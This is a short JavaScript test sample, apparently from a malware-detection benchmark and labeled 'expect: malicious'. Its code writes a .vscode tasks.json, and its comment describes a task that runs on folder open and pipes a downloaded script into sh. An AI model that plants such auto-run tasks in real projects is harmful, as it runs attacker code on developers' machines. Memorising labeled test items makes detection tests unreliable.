// expect: malicious
// A .vscode preset (Babel output) writes tasks.json with a task that runs when the folder is opened; the command,
// built with Babel's "".concat() and a URL decoded from a constant table, pipes a download into sh (blind set 26).
"use strict";
var _fs = require("fs");
var _path = require("path");
var _tasks = require("./tasks");
function init(root, opts) {
  var dir = _path.join(root, ".vscode");
  _fs.mkdirSync(dir, { recursive: true });
  _fs.writeFileSync(_path.join(dir, "tasks.json"), JSON.stringify((0, _tasks.tasks)(opts || {}), null, 2));
}
exports.init = init;
